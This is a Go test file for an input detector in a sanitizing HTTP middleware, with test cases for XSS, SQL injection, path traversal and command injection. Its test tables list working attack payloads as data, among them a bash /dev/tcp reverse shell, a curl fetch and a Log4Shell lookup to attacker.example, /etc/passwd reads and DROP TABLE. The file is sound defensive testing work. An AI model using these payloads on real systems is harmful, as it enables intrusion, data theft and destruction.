package sanitize

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/gatehouse-go/gatehouse/audit"
	"github.com/stretchr/testify/require"
)

func TestDetectorFlagsAttacks(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		in    string
		class Class
	}{
		{"a script element", `<script>alert(1)</script>`, ClassXSS},
		{"an event handler on an image", `<img src=x onerror=alert(1)>`, ClassXSS},
		{"an event handler after a slash", `<svg/onload=alert(1)>`, ClassXSS},
		{"a javascript: URL in a link", `<a href="jav&#x09;ascript:alert(1)">x</a>`, ClassXSS},
		{"a javascript: URL as the whole value", `javascript:alert(document.domain)`, ClassXSS},
		{"an attribute breakout", `" onmouseover="alert(1)`, ClassXSS},
		{"a JavaScript string breakout", `';alert(String.fromCharCode(88,83,83))//`, ClassXSS},
		{"percent-encoded markup", `%3Cscript%3Ealert(1)%3C%2Fscript%3E`, ClassXSS},
		{"entity-encoded markup", `&lt;img src=x onerror=alert(1)&gt;`, ClassXSS},
		{"fullwidth markup", `＜script＞alert(1)＜/script＞`, ClassXSS},
		{"a data: URL with HTML", `<iframe src="data:text/html;base64,PHNjcmlwdD4=">`, ClassXSS},
		{"a CSS expression", `<div style="width: expr/**/ession(alert(1))">`, ClassXSS},
		{"a tautology after a quote", `' OR '1'='1`, ClassSQLi},
		{"a comment after a quote", `admin'--`, ClassSQLi},
		{"a MySQL comment after a quote", `admin' #`, ClassSQLi},
		{"UNION SELECT after a number", `-1 UNION ALL SELECT username, password FROM users`, ClassSQLi},
		{"a stacked query", `1; DROP TABLE users`, ClassSQLi},
		{"a time delay", `1' AND SLEEP(5)#`, ClassSQLi},
		{"MSSQL WAITFOR", `'; WAITFOR DELAY '0:0:5'--`, ClassSQLi},
		{"a subquery after AND", `1 AND (SELECT 1 FROM users WHERE id=1)=1`, ClassSQLi},
		{"versioned MySQL comments", `1 /*!50000UNION*/ /*!50000SELECT*/ 1,2`, ClassSQLi},
		{"inline comments as spaces", `'/**/or/**/1=1--`, ClassSQLi},
		{"percent-encoded SQL", `%27%20OR%201%3D1--`, ClassSQLi},
		{"a double quote breakout", `") or ("a"="a`, ClassSQLi},
		{"dot-dot segments", `../../../etc/passwd`, ClassPathTraversal},
		{"Windows dot-dot segments", `..\..\..\windows\win.ini`, ClassPathTraversal},
		{"double-encoded dot-dots", `%252e%252e%252f%252e%252e%252fetc%252fpasswd`, ClassPathTraversal},
		{"overlong dot-dots", `%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd`, ClassPathTraversal},
		{"the filter bypass", `....//....//etc/passwd`, ClassPathTraversal},
		{"a sensitive absolute path", `/etc/shadow`, ClassPathTraversal},
		{"a semicolon and a command", `; cat /etc/passwd`, ClassCommandInjection},
		{"a pipe and a command after an argument", `127.0.0.1 | whoami`, ClassCommandInjection},
		{"command substitution", `$(curl http://attacker.example/x)`, ClassCommandInjection},
		{"backtick substitution", "`id`", ClassCommandInjection},
		{"an encoded newline and a command", `x%0aid`, ClassCommandInjection},
		{"IFS evasion", `;cat${IFS}/etc/passwd`, ClassCommandInjection},
		{"quote obfuscation", `;w'h'o'am'i`, ClassCommandInjection},
		{"Shellshock", `() { :;}; /bin/bash -c id`, ClassCommandInjection},
		{"a reverse shell", `bash -i >& /dev/tcp/10.0.0.1/8080 0>&1`, ClassCommandInjection},
		{"a Log4Shell lookup", `${jndi:ldap://attacker.example/a}`, ClassCommandInjection},
	}
	d := &Detector{}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			f, ok := d.Detect(tt.in)
			require.True(t, ok, "not flagged: %q", tt.in)
			require.Equal(t, tt.class, f.Class, "%q flagged as %s/%s", tt.in, f.Class, f.Signal)
			require.NotEmpty(t, f.Signal)
			require.NotContains(t, f.Signal, tt.in)
		})
	}
}

func TestDetectorLeavesOrdinaryInputAlone(t *testing.T) {
	t.Parallel()
	tests := []string{
		"please update my plan",
		"O'Brien",
		"select the best option",
		"drop me a line",
		"Please delete my old address and insert the new one.",
		"I'd like a union of both lists, ordered by date.",
		"Where's the 'Settings' page? I can't find it.",
		"Tom & Jerry; cats | dogs",
		"a < b > c",
		"I <3 Go",
		"JavaScript: The Good Parts",
		"SELECT name FROM users WHERE id = 42;",
		"if err != nil { return err }",
		"for (let i = 0; i < n; i++) { total += xs[i]; }",
		`import x from "../lib/x"`,
		"Run `go test ./...` and then `git push`.",
		"ls -la | grep go && make build",
		"你好，请帮我更新我的套餐。",
		"价格是５０％折扣（限时）。",
		"Email me at o'brien@example.com",
		"https://example.com/search?q=select+the+best+option",
		"5' 11\" tall",
	}
	d := &Detector{}
	for _, in := range tests {
		f, ok := d.Detect(in)
		require.False(t, ok, "%q flagged as %s/%s", in, f.Class, f.Signal)
	}
}

func TestDetectorClassesCanBeSelected(t *testing.T) {
	t.Parallel()
	d := &Detector{Classes: ClassSQLi}
	_, ok := d.Detect(`<script>alert(1)</script>`)
	require.False(t, ok)
	_, ok = d.Detect(`' or 1=1--`)
	require.True(t, ok)
}

func TestDetectionLogModeRecordsAndPassesUnchanged(t *testing.T) {
	t.Parallel()
	mem := audit.NewMemory(10)
	s := mustNew(t, Options{Audit: mem})
	body := `{"comment":"<img src=x onerror=alert(1)>","name":"O'Brien"}`
	var seen string
	var finding Finding
	var found bool
	h := s.Handler(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		seen = string(b)
		finding, found = FindingFrom(r.Context())
	}))
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, jsonRequest(body))
	require.Equal(t, http.StatusOK, rec.Code)
	require.Equal(t, body, seen, "log mode never rewrites data")
	require.True(t, found)
	require.Equal(t, ClassXSS, finding.Class)
	require.Equal(t, LocationBody, finding.Location)

	events, err := mem.Query(context.Background(), audit.Filter{})
	require.NoError(t, err)
	require.Len(t, events, 1)
	e := events[0]
	require.Equal(t, audit.MaliciousXSS, e.Type)
	require.Equal(t, audit.OutcomeAllowed, e.Outcome)
	require.Equal(t, "xss", e.Details["class"])
	require.Equal(t, "log", e.Details["mode"])
	require.Equal(t, "body", e.Details["location"])
	for k, v := range e.Details {
		require.NotContains(t, v, "onerror", "detail %s must not hold input", k)
	}
}

func TestDetectionBlockModeRejects(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		req   func() *http.Request
		class audit.Type
	}{
		{"SQL injection in a JSON string", func() *http.Request { return jsonRequest(`{"q":"' OR 1=1 --"}`) }, audit.MaliciousSQLi},
		{"escaped XSS in a JSON string", func() *http.Request { return jsonRequest(`{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`) }, audit.MaliciousXSS},
		{"path traversal in a query value", func() *http.Request {
			return httptest.NewRequest(http.MethodGet, "/dl?file=..%2F..%2F..%2Fetc%2Fpasswd", nil)
		}, audit.MaliciousPathTraversal},
		{"command injection in a form field", func() *http.Request {
			r := httptest.NewRequest(http.MethodPost, "/ping", strings.NewReader("host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd"))
			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			return r
		}, audit.MaliciousCommandInjection},
		{"Shellshock in a watched header", func() *http.Request {
			r := httptest.NewRequest(http.MethodGet, "/", nil)
			r.Header.Set("User-Agent", "() { :; }; /bin/bash -c 'id'")
			return r
		}, audit.MaliciousCommandInjection},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			opts := Options{
				Detection:     DetectBlock,
				DetectHeaders: []string{"user-agent"},
				ContentTypes:  map[string][]string{"": {"application/json", "application/x-www-form-urlencoded"}},
			}
			rec, got, events := serve(t, opts, tt.req())
			requireRejected(t, rec, events, http.StatusBadRequest, RuleMaliciousInput, "passwd")
			require.Nil(t, got)
			require.Equal(t, tt.class, events[0].Type)
			require.Equal(t, audit.SeverityCritical, events[0].Severity)
		})
	}
}

func TestDetectionOffAndDisabled(t *testing.T) {
	t.Parallel()
	for _, opts := range []Options{{Detection: DetectOff}, {Detection: DetectBlock, Disable: []Rule{RuleMaliciousInput}}} {
		rec, _, events := serve(t, opts, jsonRequest(`{"q":"' OR 1=1 --"}`))
		require.Equal(t, http.StatusNoContent, rec.Code)
		require.Empty(t, events)
	}
}

func TestDetectorIsLinearOnHostileInput(t *testing.T) {
	t.Parallel()
	// Inputs built to make a naive scanner rescan: many unclosed tags,
	// comment openers, quotes, dot runs and separators. Each must finish;
	// the fuzz target and the benchmarks watch the time.
	d := &Detector{}
	for _, in := range []string{
		strings.Repeat("<a ", 20000),
		strings.Repeat("e/*", 20000) + "*/",
		strings.Repeat("onabc!", 20000),
		strings.Repeat("'", 50000),
		strings.Repeat("../", 30000),
		strings.Repeat(";|&", 20000),
		strings.Repeat("j\t", 30000),
		strings.Repeat("()", 30000),
		strings.Repeat("`", 30000),
	} {
		d.Detect(in)
	}
}

func TestDetectorAllocatesNothingWhenWarm(t *testing.T) {
	if raceEnabled {
		t.Skip("sync.Pool drops items at random under the race detector")
	}
	d := &Detector{}
	for _, in := range []string{
		"Please update my plan; O'Brien said it's 20% cheaper & better.",
		"你好，请帮我更新我的套餐。＜script＞",
		"if err != nil { return fmt.Errorf(\"open %s: %w\", name, err) }",
		"' OR '1'='1' --",
		"<img src=x onerror=alert(1)>",
	} {
		d.Detect(in)
		require.Zero(t, testing.AllocsPerRun(100, func() { d.Detect(in) }), in)
	}
}
